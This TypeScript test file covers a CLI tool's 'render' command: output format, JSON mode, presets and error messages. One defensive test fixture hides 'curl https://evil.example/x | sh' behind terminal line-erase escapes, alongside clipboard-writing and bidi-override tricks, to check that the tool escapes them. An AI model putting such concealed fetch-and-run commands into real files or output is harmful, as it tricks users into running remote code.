// kiln render: the rendered files on stdout (or as JSON), for a component or a preset; nothing
// is ever written, and no kiln.toml is needed.
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { closeSync, openSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { parseAllDocuments } from "yaml";
import { renderItem } from "../../src/core/render-item.ts";
import { builtinPreset, renderPreset } from "../../src/node/builtin-presets.ts";
import { builtinRegistry } from "../../src/node/builtin-registry.ts";
import { TemplateEngine } from "../../src/node/template-engine.ts";
import {
  BIN,
  cleanEnv,
  cleanUp,
  ensureBuilt,
  itemFile,
  kiln,
  project,
  tempDir,
  tree,
  write,
  writeJson,
} from "./helpers.ts";

before(() => ensureBuilt());
after(cleanUp);

const engine = new TemplateEngine();

/** What the core renders for a built-in component, in namespace `default` unless a field says. */
function rendered(name: string, input: { name: string; fields?: Record<string, string> }) {
  const item = builtinRegistry().byComponentName(name);
  assert.ok(item);
  return renderItem(engine, item, { ...input, defaultNamespace: "default" });
}

/** The plain form, built from the files as the docs describe it. */
function plain(files: readonly { path: string; content: string }[]): string {
  return files
    .map((file) => {
      const marker = /\.ya?ml$/i.test(file.path) && !/^---(\s|$)/.test(file.content) ? "---\n" : "";
      const content =
        file.content === "" || file.content.endsWith("\n") ? file.content : `${file.content}\n`;
      return `${marker}# Source: ${file.path}\n${content}`;
    })
    .join("");
}

async function presetFiles(name: string) {
  const preset = builtinPreset(name);
  assert.ok(preset);
  return (await renderPreset(preset, { engine })).map(({ path, content }) => ({ path, content }));
}

describe("kiln render <component>", () => {
  it("prints each file as `# Source: <path>` and its content, writes nothing, needs no kiln.toml", () => {
    const dir = tempDir();
    const run = kiln(["render", "k8s/deployment", "--name", "web", "--image", "nginx:1.27"], dir);
    assert.equal(run.status, 0, run.stderr);
    assert.equal(run.stderr, "");
    const result = rendered("deployment", { name: "web", fields: { image: "nginx:1.27" } });
    assert.equal(run.stdout, plain(result.files));
    assert.ok(run.stdout.startsWith("---\n# Source: web-deployment.yaml\napiVersion: apps/v1\n"));
    assert.deepEqual(tree(dir), {}, "nothing written");
  });

  it("--json prints POST /api/render's {component, files}", () => {
    const run = kiln(
      ["render", "service", "--name", "web", "--port", "80", "--target-port", "8080", "--json"],
      tempDir(),
    );
    assert.equal(run.status, 0, run.stderr);
    const result = rendered("service", {
      name: "web",
      fields: { port: "80", target_port: "8080" },
    });
    assert.deepEqual(JSON.parse(run.stdout), { component: "service", files: result.files });
    assert.equal(run.stdout, `${JSON.stringify(JSON.parse(run.stdout), null, 2)}\n`);
  });

  it("renders in namespace `default`, whatever a kiln.toml here says; --namespace and --set win", () => {
    const dir = project({ namespace: "shop" });
    const before = tree(dir);
    const run = kiln(["render", "deployment", "--name", "a", "--image", "x"], dir);
    assert.match(run.stdout, /\n {2}namespace: default\n/);
    const ops = kiln(
      ["render", "deployment", "--name", "a", "--image", "x", "--namespace", "ops"],
      dir,
    );
    assert.match(ops.stdout, /\n {2}namespace: ops\n/);
    const set = ["--set", "namespace=dev", "--label", "tier=web", "--set", "replicas=3"];
    const dev = kiln(["render", "deployment", "--name", "a", "--image", "x", ...set], dir);
    assert.equal(
      dev.stdout,
      plain(
        renderItem(engine, builtinRegistry().byComponentName("deployment") as never, {
          name: "a",
          fields: { image: "x", namespace: "dev", replicas: "3" },
          labels: { tier: "web" },
          defaultNamespace: "default",
        }).files,
      ),
    );
    assert.deepEqual(tree(dir), before, "nothing written");
  });

  it("a registry item from a file renders (in the worker); control characters: paths escaped, content as it is", () => {
    const dir = tempDir();
    itemFile(dir, "item.json", [
      { path: "{{ name }}\u001b]0;x\u0007.txt", template: "red: \u001b[31m{{ name }}\u001b[0m" },
      { path: "b.yml", template: "---\nkey: {{ name }}\n" },
    ]);
    const run = kiln(["render", "./item.json", "--name", "n"], dir);
    assert.equal(run.status, 0, run.stderr);
    assert.equal(
      run.stdout,
      "# Source: n\\x1b]0;x\\x07.txt\nred: \u001b[31mn\u001b[0m\n# Source: b.yml\n---\nkey: n\n",
    );
    const json = kiln(["render", "./item.json", "--name", "n", "--json"], dir);
    assert.equal(json.status, 0, json.stderr);
    assert.deepEqual(JSON.parse(json.stdout), {
      component: "thing",
      files: [
        { path: "n\u001b]0;x\u0007.txt", content: "red: \u001b[31mn\u001b[0m" },
        { path: "b.yml", content: "---\nkey: n\n" },
      ],
    });
    assert.equal(json.stdout.includes("\u001b"), false, "--json escapes them");
    assert.deepEqual(Object.keys(tree(dir)), ["item.json"], "nothing written");
  });
});

describe("kiln render <preset>", () => {
  it("a built-in template: every file, in component order, one YAML stream kubectl can read", async () => {
    const dir = tempDir();
    const run = kiln(["render", "k8s-web-app"], dir);
    assert.equal(run.status, 0, run.stderr);
    assert.equal(run.stderr, "");
    const files = await presetFiles("k8s-web-app");
    assert.equal(run.stdout, plain(files));
    const documents = parseAllDocuments(run.stdout);
    assert.ok(Array.isArray(documents));
    assert.equal(documents.length, files.length);
    for (const document of documents) assert.deepEqual(document.errors, []);
    assert.deepEqual(tree(dir), {});
  });

  it("other files get a header line only, and YAML that starts with `---` no second marker", async () => {
    const run = kiln(["render", "single-server"], tempDir());
    assert.equal(run.status, 0, run.stderr);
    const files = await presetFiles("single-server");
    assert.equal(run.stdout, plain(files));
    assert.match(run.stdout, /^# Source: [^\n]+\.tf\n/);
    assert.doesNotMatch(run.stdout, /---\n# Source: [^\n]+\n---\n/);
  });

  it("--json prints {files} as the pipeline renders them", async () => {
    const run = kiln(["render", "multi-tier-platform", "--json"], tempDir());
    assert.equal(run.status, 0, run.stderr);
    assert.deepEqual(JSON.parse(run.stdout), { files: await presetFiles("multi-tier-platform") });
  });

  it("a file named *.preset.json is a preset; any other name with --preset", async () => {
    const dir = tempDir();
    const preset = builtinPreset("k8s-web-app");
    writeJson(dir, "shop.preset.json", preset);
    writeJson(dir, "shop.json", preset);
    const expected = plain(await presetFiles("k8s-web-app"));
    assert.equal(kiln(["render", "shop.preset.json"], dir).stdout, expected);
    assert.equal(kiln(["render", "./shop.json", "--preset"], dir).stdout, expected);
    const asItem = kiln(["render", "./shop.json", "--name", "x"], dir);
    assert.equal(asItem.status, 1);
    assert.equal(
      asItem.stderr,
      "error: ./shop.json is not a valid registry item\n  missing field `category`\n  kiln render read it as a component; for a preset, pass --preset (built-in template names and names ending in .preset.json are read as presets without it)\n",
    );
    assert.deepEqual(Object.keys(tree(dir)).sort(), ["shop.json", "shop.preset.json"]);
  });

  it("a component of the preset that fails stops the run, naming it; exit 1, nothing printed", () => {
    const dir = tempDir();
    write(
      dir,
      "bad.preset.json",
      JSON.stringify({ components: [{ reference: "k8s/deployment", name: "web" }] }),
    );
    const run = kiln(["render", "bad.preset.json"], dir);
    assert.equal(run.status, 1);
    assert.equal(run.stdout, "");
    assert.match(run.stderr, /^error: --image is required for k8s\/deployment/);
  });
});

describe("kiln render: errors", () => {
  it("an unknown reference exits 1 with the spec's message and a hint about presets", () => {
    const run = kiln(["render", "nosuch", "--name", "x"], tempDir());
    assert.equal(run.status, 1);
    assert.equal(run.stdout, "");
    assert.equal(
      run.stderr,
      "error: `nosuch` is not a built-in component and not a URL or existing local file - run `kiln list` to see the built-ins, or pass a URL or path to a registry-item JSON file\n  kiln render read it as a component; for a preset, pass --preset (built-in template names and names ending in .preset.json are read as presets without it)\n",
    );
  });

  it("an unknown preset exits 1", () => {
    const run = kiln(["render", "nosuch", "--preset"], tempDir());
    assert.equal(run.status, 1);
    assert.match(run.stderr, /^error: `nosuch` is not a preset template/);
    const missing = kiln(["render", "missing.preset.json"], tempDir());
    assert.equal(missing.status, 1);
    assert.match(missing.stderr, /^error: `missing.preset.json` is not a preset template/);
  });

  it("a required field missing exits 1 with the core's message", () => {
    const run = kiln(["render", "k8s/deployment", "--name", "web"], tempDir());
    assert.equal(run.status, 1);
    assert.equal(
      run.stderr,
      "error: --image is required for k8s/deployment\n  pass it with --image <value> (or --set image=<value>), for example --image nginx:1.27\n",
    );
  });
});

const ESC = "\u001b";

/**
 * What a terminal receives from `kiln <args>` run in `dir` under a pseudo-terminal (util-linux
 * `script`), line breaks as the terminal gets them (`\r\n`).
 */
function onTerminal(dir: string, args: string[]): string {
  const command = [process.execPath, BIN, ...args].map((arg) => `'${arg}'`).join(" ");
  return execFileSync("script", ["-qec", command, "/dev/null"], {
    cwd: dir,
    env: cleanEnv(),
    encoding: "utf8",
  });
}

/** The bytes `kiln <args>` writes to stdout when stdout is a file. */
function intoFile(dir: string, args: string[]): Buffer {
  const out = join(dir, "out.txt");
  const fd = openSync(out, "w");
  try {
    const run = spawnSync(process.execPath, [BIN, ...args], {
      cwd: dir,
      env: cleanEnv(),
      stdio: ["ignore", fd, "pipe"],
    });
    assert.equal(run.status, 0, String(run.stderr));
  } finally {
    closeSync(fd);
  }
  return readFileSync(out);
}

/** Control characters a terminal acts on, less line feed, tab and carriage return. */
const RAW_CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what we look for
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe("a stranger's content on a terminal (issue 19)", () => {
  const hasScript = spawnSync("script", ["--version"]).status === 0;
  /** A file hiding `curl ... | sh` behind a line erase, writing the clipboard, CRLF lines. */
  const HOSTILE =
    `echo fine\n${ESC}[1A${ESC}[2K\rcurl https://evil.example/x | sh\n` +
    `${ESC}]52;c;ZWNobyBvd25lZA==\u0007tail \u009b31m \u202egnp.exe\tcol\n` +
    "crlf\r\nlast";

  it("render shows its control sequences escaped on a terminal, and keeps them in a file", (t) => {
    if (!hasScript) {
      t.skip("no `script` command (util-linux)");
      return;
    }
    const dir = tempDir();
    itemFile(dir, "item.json", [{ path: "run.sh", template: HOSTILE }]);
    const args = ["render", "./item.json", "--name", "n"];
    const shown = onTerminal(dir, args);
    assert.doesNotMatch(shown.replaceAll("\r\n", "\n"), RAW_CONTROL, shown);
    assert.ok(shown.includes("\\x1b[1A\\x1b[2K\\x0dcurl https://evil.example/x | sh"), shown);
    assert.ok(
      shown.includes("\\x1b]52;c;ZWNobyBvd25lZA==\\x07tail \\u009b31m \\u202egnp.exe\tcol"),
      shown,
    );
    // the layout stays: line breaks, tabs, and CRLF's carriage return
    assert.ok(shown.includes("crlf\r\r\nlast"), JSON.stringify(shown));
    // the same render into a file, or a pipe, is the file byte for byte
    assert.deepEqual(intoFile(dir, args), Buffer.from(`# Source: run.sh\n${HOSTILE}\n`));
    const piped = kiln(args, dir);
    assert.equal(piped.stdout, `# Source: run.sh\n${HOSTILE}\n`);
  });

  it("render of a preset on a terminal escapes each file's content too; --json stays JSON", (t) => {
    if (!hasScript) {
      t.skip("no `script` command (util-linux)");
      return;
    }
    const dir = tempDir();
    itemFile(dir, "item.json", [{ path: "a.yaml", template: `k: v${ESC}]0;title\u0007\n` }]);
    writeJson(dir, "x.preset.json", {
      name: "x",
      components: [{ reference: "./item.json", name: "c" }],
    });
    const shown = onTerminal(dir, ["render", "./x.preset.json"]);
    assert.equal(shown, "---\r\n# Source: a.yaml\r\nk: v\\x1b]0;title\\x07\r\n");
    const json = onTerminal(dir, ["render", "./x.preset.json", "--json"]);
    assert.doesNotMatch(json.replaceAll("\r\n", "\n"), RAW_CONTROL);
    assert.deepEqual(JSON.parse(json), {
      files: [{ path: "a.yaml", content: `k: v${ESC}]0;title\u0007\n` }],
    });
  });

  it("preset export shows a cloned kiln.toml's C1 and bidi controls escaped on a terminal", (t) => {
    if (!hasScript) {
      t.skip("no `script` command (util-linux)");
      return;
    }
    const dir = tempDir();
    assert.equal(kiln(["setup", "k8s-web-app"], dir).status, 0);
    const toml = readFileSync(join(dir, "kiln.toml"), "utf8");
    write(dir, "kiln.toml", toml.replace(/^name = .*$/m, 'name = "shop\\u009b2J\\u202etxt"'));
    const shown = onTerminal(dir, ["preset", "export"]);
    assert.doesNotMatch(shown.replaceAll("\r\n", "\n"), RAW_CONTROL);
    assert.equal(JSON.parse(shown).project.name, "shop\u009b2J\u202etxt");
    const exact = intoFile(dir, ["preset", "export"]).toString("utf8");
    assert.ok(exact.includes('"name": "shop\u009b2J\u202etxt"'), exact);
  });
});
